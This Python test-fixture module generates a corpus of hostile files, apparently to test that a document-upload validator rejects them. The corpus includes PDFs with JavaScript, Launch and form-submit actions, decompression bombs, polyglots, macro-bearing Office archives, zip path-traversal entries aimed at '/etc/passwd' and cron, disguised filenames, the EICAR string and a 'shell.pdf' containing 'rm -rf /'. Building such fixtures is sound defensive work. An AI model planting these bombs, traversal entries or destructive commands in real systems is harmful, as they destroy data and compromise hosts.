"""Hostile files, made here: each is (its name, its bytes). None may come in as a paper."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

File = tuple[str, bytes]
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def all_hostile() -> list[File]:
    """Return the whole corpus, in one order."""
    made = (_actions, _encrypted, _broken, _bombs, _polyglots, _packages, _lies, _strangers)
    return [file for make in made for file in make()]


def pdf(pages: int = 1) -> bytes:
    """Return a harmless document."""
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page(page_size=(595, 842))
        return _saved(document)


def picture(kind: str, size: tuple[int, int] = (64, 48)) -> bytes:
    """Return a harmless picture: JPEG, PNG or TIFF."""
    out = io.BytesIO()
    Image.effect_mandelbrot(size, (-2, -1, 1, 1), 20).convert("RGB").save(out, kind)
    return out.getvalue()


def _saved(document: pikepdf.Pdf, **how: object) -> bytes:
    out = io.BytesIO()
    document.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def _actions() -> Iterator[File]:
    """PDF files that would do something: in the catalogue, on a page, a field, a name tree."""
    actions: dict[str, dict[str, object]] = {
        "js": {"S": Name.JavaScript, "JS": "app.alert(1)"},
        "launch": {"S": Name.Launch, "F": "cmd.exe"},
        "submit": {"S": Name.SubmitForm, "F": "http://198.51.100.7/"},
        "import": {"S": Name.ImportData, "F": "x.fdf"},
        "gotoe": {"S": Name.GoToE, "F": "x.pdf", "D": "d"},
        "rendition": {"S": Name.Rendition, "JS": "x"},
        "movie": {"S": Name.Movie},
        "sound": {"S": Name.Sound},
    }
    for label, keys in actions.items():
        for place in range(6):
            yield f"{label}-{place}.pdf", _with_action(Dictionary(**keys), place)
    for label, kind in (("rich", Name.RichMedia), ("3d", Name("/3D")), ("screen", Name.Screen)):
        with pikepdf.new() as document:
            page = document.add_blank_page()
            note = Dictionary(Type=Name.Annot, Subtype=kind, Rect=Array([0, 0, 9, 9]))
            page.Annots = Array([document.make_indirect(note)])
            yield f"{label}.pdf", _saved(document)
    with pikepdf.new() as document:
        document.add_blank_page()
        document.Root.AcroForm = Dictionary(XFA=String("<xdp/>"), Fields=Array([]))
        yield "xfa.pdf", _saved(document)
    for inner in (b"MZ\x90\x00 program", pdf(), EICAR):
        with pikepdf.new() as document:
            document.add_blank_page()
            document.attachments["invoice.exe"] = inner
            yield f"attachment-{len(inner)}.pdf", _saved(document)


def _with_action(action: Dictionary, place: int) -> bytes:
    with pikepdf.new() as document:
        page = document.add_blank_page()
        held = document.make_indirect(action)
        if place == 0:
            document.Root.OpenAction = held
        elif place == 1:
            page.AA = Dictionary(O=held)
        elif place == 2:
            document.Root.Names = Dictionary(
                JavaScript=Dictionary(Names=Array([String("x"), held]))
            )
        elif place == 3:
            document.Root.OpenAction = Dictionary(S=Name.Named, N=Name.NextPage, Next=action)
        elif place == 4:
            link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=held)
            page.Annots = Array([document.make_indirect(link)])
        else:
            field = Dictionary(FT=Name.Tx, T=String("f"), AA=Dictionary(K=held))
            document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))
        hidden = pikepdf.ObjectStreamMode.generate if place % 2 else None
        return _saved(document, **({"object_stream_mode": hidden} if hidden else {}))


def _encrypted() -> Iterator[File]:
    for strength in (3, 4, 6):
        for user in ("", "secret"):
            with pikepdf.new() as document:
                document.add_blank_page()
                modern = strength > 3
                lock = pikepdf.Encryption(
                    owner="o", user=user, R=strength, metadata=modern, aes=modern
                )
                yield f"locked-{strength}-{len(user)}.pdf", _saved(document, encryption=lock)


def _broken() -> Iterator[File]:
    whole = pdf(3)
    yield "empty.pdf", b""
    yield "head.pdf", b"%PDF-1.7\n"
    yield "no-pages.pdf", _no_pages()
    yield "nul.pdf", b"%PDF-1.7\n" + b"\0" * 5000
    yield "loop.pdf", _looping()
    yield "garbage.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40
    for cut in (20, 60, 120):
        yield f"cut-{cut}.pdf", whole[:cut]
    for kind, ending in (("JPEG", "jpg"), ("PNG", "png"), ("TIFF", "tif")):
        shot = picture(kind, (400, 300))
        yield f"cut.{ending}", shot[: len(shot) // 2]
        yield f"head.{ending}", shot[:12]
        yield f"noise.{ending}", shot[:24] + bytes(range(256)) * 8


def _no_pages() -> bytes:
    with pikepdf.new() as document:
        return _saved(document)


def _looping() -> bytes:
    body = (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\n"
    )
    return body + b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"


def _bombs() -> Iterator[File]:
    zeros = zlib.compress(bytes(700_000_000), 9)
    with pikepdf.new() as document:
        page = document.add_blank_page()
        page.Contents = document.make_stream(b"")
        page.Contents.write(zeros, filter=Name.FlateDecode)
        yield "bomb.pdf", _saved(document, compress_streams=False)
    with pikepdf.new() as document:
        page = document.add_blank_page()
        page.Contents = document.make_stream(b"")
        twice = Array([Name.FlateDecode, Name.FlateDecode])
        page.Contents.write(zlib.compress(zeros, 9), filter=twice)
        yield "bomb-in-bomb.pdf", _saved(document, compress_streams=False)
    for width, height in ((60_000, 60_000), (200_000, 2_000), (1_000_000, 1_000_000)):
        with pikepdf.new() as document:
            page = document.add_blank_page()
            shot = document.make_stream(b"x", Subtype=Name.Image, Width=width, Height=height)
            page.Resources = Dictionary(XObject=Dictionary(I=shot))
            yield f"pixels-{width}.pdf", _saved(document)
        yield f"pixels-{width}.png", _png_bomb(width, height)
    yield "pages.pdf", pdf(700)
    yield "frames.tif", _frames(1200)
    for levels in (1, 2):
        yield f"zip-bomb-{levels}.zip", _zip_bomb(levels)
        yield f"zip-bomb-{levels}.docx", _zip_bomb(levels)
    yield "liar.docx", _lying_zip()


def _png_bomb(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        checked = struct.pack("!L", zlib.crc32(kind + body))
        return struct.pack("!L", len(body)) + kind + body + checked

    head = struct.pack("!LLBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(4_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _frames(count: int) -> bytes:
    out = io.BytesIO()
    frame = Image.new("1", (8, 8))
    frame.save(out, "TIFF", save_all=True, append_images=[frame] * (count - 1))
    return out.getvalue()


def package(members: dict[str, bytes], **more: int) -> bytes:
    """Return an archive of members; `mode` is that of the files in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = more.get("mode", 0o644) << 16
            archive.writestr(entry, content)
    return out.getvalue()


def _zip_bomb(levels: int) -> bytes:
    content = bytes(600_000_000)
    for level in range(levels):
        content = package({f"level-{level}.zip" if level else "zeros.bin": content})
    return content


def _lying_zip() -> bytes:
    """A directory that promises ten bytes where forty megabytes come out."""
    real = 40_000_000
    made = bytearray(package({"word/document.xml": bytes(real)}))
    told = struct.pack("<L", real)
    while (at := made.find(told)) >= 0:
        made[at : at + 4] = struct.pack("<L", 10)
    return bytes(made)


def _polyglots() -> Iterator[File]:
    archive, document = package({"evil.exe": b"MZ"}), pdf()
    for kind, ending in (("JPEG", "jpg"), ("PNG", "png"), ("TIFF", "tif")):
        shot = picture(kind)
        yield f"and-zip.{ending}", shot + archive
        yield f"and-pdf.{ending}", shot + document
    yield "and-zip.pdf", document + archive * 20
    yield "late.pdf", b"GIF89a;" + document
    yield "late-space.pdf", b" " * 600 + document
    yield "html.pdf", b"<html><script>alert(1)</script>" + document
    shot = picture("JPEG")
    for hidden in (b"<html>", b"<script>alert(1)</script>", b"%PDF-1.7", b"<svg onload=x>"):
        comment = b"\xff\xfe" + struct.pack("!H", len(hidden) + 2) + hidden
        yield f"comment-{len(hidden)}.jpg", shot[:2] + comment + shot[2:]


def _packages() -> Iterator[File]:
    word = {"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<Types/>"}
    yield "macro.docx", package(word | {"word/vbaProject.bin": b"\xd0\xcf"})
    yield "macro.docm", package(word | {"word/vbaProject.bin": b"\xd0\xcf"})
    yield "activex.docx", package(word | {"word/activeX/activeX1.bin": b"x"})
    yield "macro.xlsx", package({"xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": b"x"})
    yield (
        "macro.odt",
        package(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "Basic/Standard/Module1.xml": b"x",
            }
        ),
    )
    for name in ("../../etc/cron.d/x", "/etc/passwd", "..\\..\\x.exe", "C:\\x.exe", "a/../../b"):
        yield f"path-{len(name)}.docx", package(word | {name: b"x"})
    yield "link.docx", package(word | {"x": b"/etc/passwd"}, mode=stat.S_IFLNK | 0o777)
    yield "plain.zip", package({"a.pdf": pdf()})
    yield "nested.docx", package(word | {"inner.zip": package({"x": b"y"})})
    yield "cut.docx", package(word)[:60]


def _lies() -> Iterator[File]:
    kinds = {"pdf": pdf(), "jpg": picture("JPEG"), "png": picture("PNG")}
    for ending in ("exe", "html", "svg", "js", "docx", "zip", "", "pdf.exe", "scr", "bat"):
        for kind, content in kinds.items():
            yield (f"{kind}.{ending}" if ending else f"{kind}paper"), content
    yield "picture.pdf", kinds["jpg"]
    yield "document.jpg", kinds["pdf"]
    yield "document.png", kinds["pdf"]
    yield "hidden\u202egnp.exe", kinds["png"]
    yield "nul.pdf\0.exe", kinds["pdf"]
    yield "../../up.sh", kinds["pdf"]
    yield "long" + "g" * 4000 + ".exe", kinds["pdf"]


def _strangers() -> Iterator[File]:
    yield "eicar.com", EICAR
    yield "eicar.pdf", EICAR
    yield "eicar.txt", EICAR
    yield "script.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    yield "svg.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    yield "page.html", b"<!doctype html><script>alert(1)</script>"
    yield "page.pdf", b"<!doctype html><script>alert(1)</script>"
    yield "program.pdf", b"MZ\x90\x00" + bytes(4000)
    yield "elf.jpg", b"\x7fELF" + bytes(4000)
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)
    yield "notes.txt", "tờ khai".encode()
    yield "movie.gif", b"GIF89a" + bytes(400)
    yield "web.webp", b"RIFF\x00\x00\x00\x00WEBPVP8 " + bytes(100)
    yield "gz.pdf", b"\x1f\x8b\x08" + bytes(100)
    yield "rar.pdf", b"Rar!\x1a\x07\x00" + bytes(100)
    yield "seven.pdf", b"7z\xbc\xaf\x27\x1c" + bytes(100)
    yield "ps.pdf", b"%!PS-Adobe-3.0\n(x) run"
    yield "shell.pdf", b"#!/bin/sh\nrm -rf /\n"
